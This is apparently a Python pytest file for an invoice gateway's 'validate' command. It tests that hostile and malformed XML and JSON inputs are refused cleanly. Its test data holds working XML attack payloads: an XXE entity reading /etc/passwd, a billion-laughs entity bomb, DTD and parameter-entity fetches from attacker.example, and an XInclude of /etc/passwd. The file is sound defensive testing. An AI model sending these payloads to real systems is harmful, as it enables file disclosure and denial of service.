"""Hostile and broken inputs through `gateway validate`: a clear message, never a traceback.

Exit 2 for everything that cannot be read as a supported document (DTDs, entities, XXE,
oversized, truncated, badly encoded, too deep, wrong root, not XML/JSON). A JSON document
whose money field is a JSON float is *read* (it is valid JSON), so the model refuses the value
with a finding at its JSON pointer: exit 1.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from gateway.cli.main import cli
from gateway.documents.convert import model_to_json, xml_to_model
from gateway.documents.json_type import with_document_type

NS_INVOICE = "urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
NS_CBC = "urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"
SECRET = "root:x:0:0"

XXE = f"""<?xml version="1.0"?>
<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Invoice xmlns="{NS_INVOICE}" xmlns:cbc="{NS_CBC}"><cbc:Note>&xxe;</cbc:Note></Invoice>"""

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<lolz>&lol9;</lolz>"""

EXTERNAL_DTD = f"""<?xml version="1.0"?>
<!DOCTYPE Invoice SYSTEM "http://attacker.example/invoice.dtd">
<Invoice xmlns="{NS_INVOICE}"/>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/e.dtd"> %remote;]><x/>"""


def _invoke(args: list[str], stdin: bytes | None = None, **env: str) -> Result:
    environment: dict[str, str | None] = {"GATEWAY_ARTEFACTS_DIR": None}
    environment.update(env)
    return CliRunner().invoke(cli, ["validate", *args], input=stdin, env=environment)


def _assert_clean_refusal(result: Result, exit_code: int, *phrases: str) -> None:
    assert result.exit_code == exit_code, result.output
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert SECRET not in result.output
    for phrase in phrases:
        assert phrase in result.output


def _base_example(standards_dir: Path) -> bytes:
    return (standards_dir / "peppol-bis-billing-3/examples/base-example.xml").read_bytes()


@pytest.mark.parametrize(
    ("document", "phrase"),
    [
        (XXE, "DTDs are not allowed"),
        (BILLION_LAUGHS, "DTDs are not allowed"),
        (EXTERNAL_DTD, "DTDs are not allowed"),
        (PARAMETER_ENTITY, "DTDs are not allowed"),
        (f'<Invoice xmlns="{NS_INVOICE}"><!ENTITY x "y"></Invoice>', "entity declarations"),
    ],
    ids=["xxe", "billion-laughs", "external-dtd", "parameter-entity", "stray-entity"],
)
def test_dtds_and_entities_are_refused(document: str, phrase: str) -> None:
    _assert_clean_refusal(_invoke(["-"], document.encode()), 2, "hostile-input", phrase)


def test_xxe_is_refused_with_artefacts_too(standards_dir: Path) -> None:
    result = _invoke(["-", "--artefacts", str(standards_dir)], XXE.encode())
    _assert_clean_refusal(result, 2, "DTDs are not allowed")


def test_oversized_document_is_refused(standards_dir: Path) -> None:
    result = _invoke(["-"], _base_example(standards_dir), GATEWAY_MAX_DOCUMENT_BYTES="4096")
    _assert_clean_refusal(result, 2, "payload-too-large", "limit of 4096 bytes")


def test_oversized_file_is_refused(standards_dir: Path) -> None:
    path = str(standards_dir / "peppol-bis-billing-3/examples/base-example.xml")
    result = _invoke([path], GATEWAY_MAX_DOCUMENT_BYTES="4096")
    _assert_clean_refusal(result, 2, "payload-too-large")


def test_truncated_xml_is_refused(standards_dir: Path) -> None:
    data = _base_example(standards_dir)
    at_tag = data[: data.index(b"<cac:PaymentMeans>")]
    _assert_clean_refusal(_invoke(["-"], at_tag), 2, "truncated XML")
    mid_tag = data[: data.index(b"<cac:PaymentMeans>") + 12]
    _assert_clean_refusal(_invoke(["-"], mid_tag), 2, "malformed XML (line")


def test_undeclared_latin1_is_refused() -> None:
    document = (f'<Invoice xmlns="{NS_INVOICE}" xmlns:cbc="{NS_CBC}">'
                "<cbc:Note>Müller Søn</cbc:Note></Invoice>").encode("iso-8859-1")
    _assert_clean_refusal(_invoke(["-"], document), 2, "bad character encoding")


def test_unknown_declared_encoding_is_refused() -> None:
    document = b'<?xml version="1.0" encoding="X-NO-SUCH-CODEC"?><Invoice/>'
    _assert_clean_refusal(_invoke(["-"], document), 2, "unreadable-input")


def test_excessive_depth_is_refused() -> None:
    depth = 5000
    document = ("<a>" * depth + "</a>" * depth).encode()
    _assert_clean_refusal(_invoke(["-"], document), 2, "too deep")


@pytest.mark.parametrize(
    ("document", "phrase"),
    [
        (f'<Foo xmlns="{NS_INVOICE}"/>', "root element 'Foo' does not match"),
        ("<Invoice/>", "unsupported root element namespace None"),
        ('<Catalogue xmlns="urn:oasis:names:specification:ubl:schema:xsd:Catalogue-2"/>',
         "unsupported root element namespace"),
        (f'<Invoice xmlns="{NS_INVOICE}" xmlns:cbc="{NS_CBC}">'
         "<cbc:CustomizationID>urn:example:unknown</cbc:CustomizationID></Invoice>",
         "unsupported CustomizationID 'urn:example:unknown'"),
    ],
    ids=["wrong-root-name", "no-namespace", "unsupported-root", "unknown-customization"],
)
def test_wrong_or_unsupported_root_is_refused(document: str, phrase: str) -> None:
    _assert_clean_refusal(_invoke(["-"], document.encode()), 2, "unsupported-document", phrase)


@pytest.mark.parametrize(
    "data",
    [b"", b"   \n", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", b"just some text", b"<a><b></a>"],
    ids=["empty", "blank", "binary", "text", "mismatched-tags"],
)
def test_not_xml_is_refused(data: bytes) -> None:
    _assert_clean_refusal(_invoke(["-"], data), 2, "error [")


def test_malformed_json_is_refused() -> None:
    _assert_clean_refusal(_invoke(["-"], b'{"amount": "1",'), 2, "malformed JSON")


def test_json_nan_is_refused() -> None:
    _assert_clean_refusal(_invoke(["-"], b'{"amount": NaN}'), 2, "invalid JSON number NaN")


def test_xinclude_is_not_processed(standards_dir: Path) -> None:
    data = _base_example(standards_dir).replace(
        b"<cbc:IssueDate>",
        b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" '
        b'parse="text"/><cbc:IssueDate>',
        1,
    )
    result = _invoke(["-", "--format", "json", "--artefacts", str(standards_dir)], data)
    _assert_clean_refusal(result, 1, '"rule_id": "XSD"')


def _order_json(standards_dir: Path) -> dict[str, Any]:
    data = (standards_dir / "peppol-poacc-3/examples/Order_Example.xml").read_bytes()
    doc_type, model, _ = xml_to_model(data)
    return with_document_type(doc_type, model_to_json(model))


def test_json_float_for_money_is_a_model_finding(standards_dir: Path) -> None:
    document = _order_json(standards_dir)
    document["totals"]["line_extension_amount"] = 6525.0
    result = _invoke(["-", "--format", "json"], json.dumps(document).encode())
    _assert_clean_refusal(result, 1, "not JSON floats")
    report = json.loads(result.stdout)
    assert [(f["rule_id"], f["layer"], f["json_pointer"]) for f in report["findings"]] == [
        ("GW-JSON-TYPE", "model", "/totals/line_extension_amount")
    ]


@pytest.mark.parametrize(
    ("document", "phrase"),
    [
        (b'[{"document_type": "order"}]', "must be a JSON object"),
        (b'{"document_type": "catalogue"}', "unknown document type 'catalogue'"),
        (b'{"document_type": 7}', "must be a string"),
    ],
    ids=["array", "unknown-type", "non-string-type"],
)
def test_unusable_json_is_refused(document: bytes, phrase: str) -> None:
    _assert_clean_refusal(_invoke(["-"], document), 2, phrase)
